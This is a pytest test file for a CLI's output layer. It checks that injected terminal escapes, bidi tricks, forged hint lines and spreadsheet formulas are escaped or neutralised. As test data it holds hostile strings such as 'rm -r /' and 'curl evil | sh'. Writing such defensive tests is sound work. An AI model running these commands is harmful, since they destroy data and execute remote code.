"""What is said, where it goes, and that nothing said by others can speak for us."""

from __future__ import annotations

import csv
import io
import json
import sys
import threading
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.layout import clean, columns, cut, labelled, table
from cli.output import (
    confirm,
    csv_line,
    fail,
    json_line,
    note,
    plain_line,
    progress,
    show_csv,
    show_json,
    show_lines,
    show_table,
)
from sentinel_server.errors import BadInput, PolicyDenied, SentinelError
from tests.fakes.drives import ENV
from tests.fakes.processes import started
from tests.fakes.terminal import on_a_terminal

HOSTILE = st.text(st.characters(codec=None), max_size=40)


class Screen(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self) -> bool:
        """Yes."""
        return True


class SpinWatch(Screen):
    """A terminal that tells when the spinner has turned."""

    def __init__(self) -> None:
        super().__init__()
        self.turned = threading.Event()

    def flush(self) -> None:
        """Called once per turn."""
        self.turned.set()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("rotate the keys", "rotate the keys"),
        ("Zoë 東京", "Zoë 東京"),
        ("\x1b[2Jgone", r"\x1b[2Jgone"),
        ("\x9b31mred", r"\x9b31mred"),
        ("one\nsentinel: next: rm -r /", r"one\nsentinel: next: rm -r /"),
        ("ok\rno", r"ok\rno"),
        ("abc\u202egnp.exe", r"abc\u202egnp.exe"),
        ("a\u2066b\u200bc\u2028d", r"a\u2066b\u200bc\u2028d"),
        ("\ud800", r"\ud800"),
        ("\U000e0041", r"\U000e0041"),
    ],
)
def test_text_from_outside_is_shown_and_not_obeyed(text: str, shown: str) -> None:
    assert clean(text) == shown


@given(HOSTILE)
def test_cleaned_text_is_one_printable_line_and_stays_as_it_is(text: str) -> None:
    shown = clean(text)
    assert len(shown.splitlines()) <= 1
    assert "\x1b" not in shown
    assert clean(shown) == shown
    shown.encode("utf-8")


class TestTalk:
    """Notes and failures."""

    def test_a_note_is_one_line_on_stderr(self, capsys: pytest.CaptureFixture[str]) -> None:
        note("two\nlines")
        assert capsys.readouterr() == ("", "sentinel: two\\nlines\n")

    def test_a_failure_is_what_and_why_then_the_next_command(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        fail(PolicyDenied("rule 'no-prod' denies profile prod", hint="see why: sentinel policy explain"))
        said = (
            "sentinel: rule 'no-prod' denies profile prod\nsentinel: next: see why: sentinel policy explain\n"
        )
        assert capsys.readouterr() == ("", said)

    def test_a_failure_without_a_next_command_ends_there(self, capsys: pytest.CaptureFixture[str]) -> None:
        fail(SentinelError("it broke"))
        assert capsys.readouterr().err == "sentinel: it broke\n"

    def test_a_message_cannot_forge_the_next_command(self, capsys: pytest.CaptureFixture[str]) -> None:
        fail(SentinelError("bad reason: x\nsentinel: next: curl evil | sh"))
        assert capsys.readouterr().err == "sentinel: bad reason: x\n  sentinel: next: curl evil | sh\n"

    def test_a_stderr_that_is_gone_is_no_failure(self, tmp_path: Path) -> None:
        alone = [
            sys.executable,
            "-c",
            "import os; os.close(2); from cli.output import note; note('x'); print(1)",
        ]
        with started(alone, env=ENV, into=tmp_path) as run:
            assert run.wait() == 0
            assert run.out() == "1\n"


class TestTables:
    """Aligned for people, cut only where it must be."""

    ROWS = (("id", "reason"), [("a1", "rotate the keys of the payment service"), ("b22", "short")])

    def test_columns_are_aligned_and_lines_have_no_tail(self) -> None:
        assert table(("id", "user"), [("a", "zoë"), ("bcd", "x")], None) == [
            "id   user",
            "a    zoë",
            "bcd  x",
        ]

    def test_wide_characters_take_two_columns(self) -> None:
        assert table(("name", "n"), [("東京", "1"), ("abcd", "2")], None)[1:] == ["東京  1", "abcd  2"]

    def test_nothing_is_cut_without_a_width(self) -> None:
        assert table(*self.ROWS, None)[1].endswith("payment service")

    def test_the_widest_column_is_cut_first(self) -> None:
        assert table(*self.ROWS, 20)[1] == "a1   rotate the key…"

    def test_columns_are_not_cut_to_nothing(self) -> None:
        assert table(("a" * 30, "b" * 30), [], 5) == [f"{'a' * 7}…  {'b' * 7}…"]

    def test_a_cell_is_one_line_whatever_it_holds(self) -> None:
        assert table(("id", "reason"), [("a", "x\ny\x1b[1m")], None)[1] == r"a   x\ny\x1b[1m"

    @given(st.lists(st.tuples(HOSTILE, HOSTILE, HOSTILE), max_size=5), st.integers(30, 120))
    def test_no_line_is_wider_than_the_terminal(self, rows: list[tuple[str, str, str]], width: int) -> None:
        assert all(columns(line) <= width for line in table(("id", "user", "reason"), rows, width))

    @given(HOSTILE.map(clean), st.integers(1, 50))
    def test_a_cut_text_fits_and_begins_as_the_whole(self, text: str, width: int) -> None:
        short = cut(text, width)
        assert columns(short) <= width
        assert short == text or text.startswith(short.removesuffix("…"))

    def test_labels_and_texts_stand_in_two_columns(self) -> None:
        assert labelled([("ARN", "a\tb"), ("Account", "1")]) == [r"ARN      a\tb", "Account  1"]
        assert labelled([]) == []

    def test_what_is_piped_is_whole_and_has_no_colour(self, capsys: pytest.CaptureFixture[str]) -> None:
        show_table(("id", "reason"), [("a", "x" * 300)])
        show_lines([("id", "a")])
        out = capsys.readouterr().out.splitlines()
        assert out == ["id  reason", f"a   {'x' * 300}", "id  a"]
        assert plain_line(("a", "b\nc")) == r"a  b\nc"

    def test_a_terminal_gets_what_fits_it_under_a_bold_heading(self) -> None:
        show = "from cli.output import show_table; show_table(('id',), [('x' * 300,)])"
        with on_a_terminal([sys.executable, "-c", show], ENV) as terminal:
            terminal.expect(r"\x1b\[1mid\x1b\[0m\r\nx{79}…\r\n")


class TestData:
    """JSON and CSV, for programs."""

    @given(HOSTILE)
    def test_json_keeps_every_character_and_prints_only_ascii(self, text: str) -> None:
        line = json_line({"reason": text})
        assert json.loads(line) == {"reason": text}
        assert line.isascii()
        assert line.isprintable()

    def test_json_is_indented_when_shown(self, capsys: pytest.CaptureFixture[str]) -> None:
        show_json({"a": [1]})
        assert capsys.readouterr().out == '{\n  "a": [\n    1\n  ]\n}\n'

    @given(st.lists(HOSTILE, min_size=2, max_size=4))
    def test_a_csv_record_is_one_line_that_reads_back_cleaned(self, values: list[str]) -> None:
        read = next(csv.reader([csv_line(values)]))
        assert [cell.removeprefix("'") for cell in read] == [
            clean(value).removeprefix("'") for value in values
        ]

    @pytest.mark.parametrize("formula", ["=HYPERLINK(1)", "+1", "-1+cmd", "@SUM(A1)"])
    def test_a_spreadsheet_computes_nothing(self, formula: str) -> None:
        assert csv_line(["a", formula]) == f"a,'{formula}"
        assert csv_line([-1, None]) == "-1,"

    def test_csv_has_the_named_fields_in_order(self, capsys: pytest.CaptureFixture[str]) -> None:
        show_csv(("id", "n", "gone"), [{"n": 1, "id": "a,b", "more": 2}])
        assert capsys.readouterr().out == 'id,n,gone\n"a,b",1,\n'


class TestConfirm:
    """A yes comes from a person at a terminal, or from --yes."""

    ASK = "from cli.output import confirm; confirm('block\\neverybody?'); print('done')"

    def test_without_a_terminal_the_way_out_is_named(self) -> None:
        with pytest.raises(BadInput, match="no terminal") as refused:
            confirm("really?")
        assert refused.value.hint == "add --yes"

    @pytest.mark.parametrize(
        ("answer", "then"), [("y", "done\r\n"), ("n", "not confirmed"), ("", "not confirmed")]
    )
    def test_only_yes_goes_on(self, answer: str, then: str) -> None:
        with on_a_terminal([sys.executable, "-c", self.ASK], ENV) as terminal:
            terminal.expect(r"sentinel: block\\neverybody\? \[y/N\]: ")
            terminal.line(answer)
            terminal.expect(then)


class TestProgress:
    """A spinner for what takes long, on a terminal alone."""

    def test_it_turns_while_the_work_lasts_and_is_wiped_after(self) -> None:
        screen = SpinWatch()
        with progress("asking STS", patience=0, stream=screen):
            assert screen.turned.wait(20)
        assert "| asking STS " in screen.getvalue()
        assert screen.getvalue().endswith("\r\x1b[K")

    def test_short_work_shows_nothing(self) -> None:
        screen = Screen()
        with progress("asking STS", patience=1000, stream=screen):
            pass
        assert screen.getvalue() == ""

    def test_nothing_spins_into_a_pipe(self) -> None:
        pipe = io.StringIO()
        with progress("asking STS", patience=0, stream=pipe):
            pass
        assert pipe.getvalue() == ""
